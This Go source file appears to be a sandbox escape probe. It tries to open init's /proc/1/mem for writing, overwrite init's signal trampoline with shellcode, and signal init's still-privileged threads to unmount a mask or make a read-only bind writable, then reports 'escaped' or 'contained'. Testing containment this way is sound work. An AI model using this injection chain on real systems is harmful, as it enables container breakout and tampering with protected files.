package main

import (
	"debug/elf"
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// inject is the chain that turns write access to init's memory into an
// escape: init's other threads keep every capability of the sandbox's user
// namespace and no seccomp filter (only the thread that forked the command
// was locked down), so code planted in init's signal trampoline and run by
// one of them may unmount or remount what the sandbox set up.
//
// args: unmask MOUNTPOINT FILE (unmount the mask, then read FILE), or
// remount MOUNTPOINT FILE (make a read-only bind writable, then write FILE).
// It prints inject-mem (whether /proc/1/mem opened for writing: the designed
// answer is EACCES) and, past that, inject-result escaped or contained.
func inject(args []string) {
	kind, mnt, file := args[0], args[1], args[2]
	mem, err := os.OpenFile("/proc/1/mem", os.O_RDWR, 0)
	say("inject-mem", err)
	if err != nil {
		return
	}
	defer mem.Close()
	code := shellcode(kind, mnt)
	if code == nil {
		fmt.Println("inject-result unsupported-arch")
		return
	}
	addr, size := symbol("/proc/1/exe", "runtime.sigtramp.abi0", "runtime.sigtramp")
	if addr == 0 || (size != 0 && uint64(len(code)) > size) {
		fmt.Println("inject-result no-room", addr, size)
		return
	}
	orig := make([]byte, len(code))
	if _, err := mem.ReadAt(orig, int64(addr)); err != nil {
		say("inject-read", err)
		return
	}
	if _, err := mem.WriteAt(code, int64(addr)); err != nil {
		say("inject-write", err)
		return
	}
	effect := func() bool {
		if kind == "unmask" {
			_, err := os.ReadFile(file)
			return err == nil
		}
		return os.WriteFile(file, []byte("changed-by-escapee\n"), 0o644) == nil
	}
	done := false
	for _, tid := range privilegedThreads() {
		_ = unix.Tgkill(1, tid, unix.SIGURG)
		if done = waitFor(300*time.Millisecond, effect); done {
			break
		}
	}
	if _, err := mem.WriteAt(orig, int64(addr)); err != nil {
		say("inject-restore", err)
	}
	fmt.Println("inject-result", map[bool]string{true: "escaped", false: "contained"}[done])
}

// symbol returns the address and size of the first of names in the ELF file.
func symbol(path string, names ...string) (addr, size uint64) {
	f, err := elf.Open(path)
	if err != nil {
		return 0, 0
	}
	defer f.Close()
	syms, _ := f.Symbols()
	for _, n := range names {
		for _, s := range syms {
			if s.Name == n {
				return s.Value, s.Size
			}
		}
	}
	return 0, 0
}

// privilegedThreads lists init's threads that hold capabilities and have no
// seccomp filter.
func privilegedThreads() []int {
	ents, _ := os.ReadDir("/proc/1/task")
	var out []int
	for _, e := range ents {
		b, err := os.ReadFile("/proc/1/task/" + e.Name() + "/status")
		s := string(b)
		if err != nil || !strings.Contains(s, "Seccomp:\t0") || strings.Contains(s, "CapEff:\t0000000000000000") {
			continue
		}
		if tid, err := strconv.Atoi(e.Name()); err == nil {
			out = append(out, tid)
		}
	}
	return out
}
